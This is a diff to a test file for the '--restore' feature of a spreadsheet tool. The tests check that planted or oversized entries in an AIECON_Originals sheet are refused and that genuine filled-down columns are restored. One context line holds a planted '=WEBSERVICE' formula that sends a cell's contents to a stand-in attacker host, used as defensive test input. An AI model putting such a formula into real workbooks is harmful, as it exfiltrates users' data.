@@ -155,6 +155,11 @@ describe("--restore trusts only what conversion writes in AIECON_Originals", () 
       ["Usage", "H2", '=WEBSERVICE("http://evil.example/?"&A2)', "", "", "2026-12-01"],
       /its formula '=WEBSERVICE\("http:\/\/evil\.example\/\?"&A2\)' calls no AIECON function/,
     ],
+    [
+      "a filled-down column of a million cells in a row of a few bytes",
+      ["Usage", "G2:G1048576", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "", "2026-12-01"],
+      /its cells 'G2:G1048576', filled down, would make more than 250,000 formulas/,
+    ],
   ])("%s is refused by its row, before anything is cleared or written", async (_, row, message) => {
     const r = await refusedWith(`planted-${row[1]}`, await crafted.withOriginals([row]), message, "--restore");
     expect(r.err).toMatch(/Nothing was restored: AIECON_Originals entry 1 \(Usage!/);
@@ -168,6 +173,16 @@ describe("--restore trusts only what conversion writes in AIECON_Originals", () 
     );
     expect(r.err).toBe("");
     expect(r.out).toMatch(/1 AIECON formula\(s\) restored/);
+  });
+
+  it("a filled-down column as conversion writes it is restored cell by cell", async () => {
+    const r = await run(
+      "kept-column",
+      await crafted.withOriginals([["Usage", "F2:F40", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "", "2026-12-01"]]),
+      "--restore",
+    );
+    expect(r.err).toBe("");
+    expect(r.out).toMatch(/39 AIECON formula\(s\) restored/);
   });
 });
 
